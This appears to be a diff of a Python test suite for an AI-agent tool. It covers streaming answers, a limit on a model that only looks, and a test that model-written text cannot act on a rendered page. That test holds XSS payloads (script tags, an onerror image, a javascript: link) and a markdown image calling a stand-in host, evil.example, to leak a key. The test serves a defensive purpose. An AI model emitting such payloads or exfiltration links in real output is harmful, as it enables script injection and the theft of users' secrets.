@@ -106,7 +106,7 @@ def test_nothing_that_acts_can_be_called(tried: Lab) -> None:
 
 
 def test_what_a_model_writes_can_do_nothing_to_the_page(tried: Lab) -> None:
-    evil = ("<script>alert(1)</script> <img src=x onerror=alert(2)> [here](javascript:alert(3)) "
+    evil = ("<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n[here](javascript:alert(3)) "
             "![seen](https://evil.example/?key) \x1b[2J\n\n<details open><summary>x</summary></details>\n")
     calls = [Call("sql", {"query": "SELECT '</pre><script>alert(4)</script>' AS a"}),
              Call("propose_cell", {"code": "</pre><script>alert(5)</script>", "why": "<b>"}),
@@ -192,11 +192,14 @@ def test_a_terminal_prints_an_answer_as_it_comes(tried: Lab) -> None:
         tried.place.env |= it.env()
         asked = tried.spawn("ask", "--agent", AGENT, "x")
         assert asked.stdout is not None
-        first = "".join(iter(lambda: asked.stdout.read(1), "f"))
+        first = ""
+        while not first.endswith("One half"):
+            assert (letter := asked.stdout.read(1)), f"it ended after: {first}"
+            first += letter
         go.set()
         rest, err = asked.communicate(timeout=60)
         assert asked.returncode == 0, err
-        assert first + "f" + rest == ("> diff 1\n\nOne half and the other.\n\n— " + AGENT
+        assert first + rest == ("> diff 1\n\nOne half and the other.\n\n— " + AGENT
                                       + ", 2000 tokens read, 400 written, $0.0200\n")
         told = tried.json("ask", "--agent", AGENT, "x")
     assert told["answer"] == "So." and told["cell"] == "%best" and told["steps"][0]["tool"] == "propose_cell"
@@ -206,7 +209,8 @@ def test_a_terminal_prints_an_answer_as_it_comes(tried: Lab) -> None:
 def test_a_model_that_only_looks_is_stopped(tried: Lab) -> None:
     with model(lambda _: Call("experiments", {})) as it:
         done = tried.overnight("ask", "--agent", AGENT, "x", code=1, env=it.env())
-    assert "did not answer" in done.err and len(it.asked) == 13 and "that was enough" in it.told()
+    assert "did not answer" in done.err and len(it.asked) == 13
+    assert "that was enough" in it.told() and "that was enough" not in it.told(-2)
 
 
 @pytest.fixture
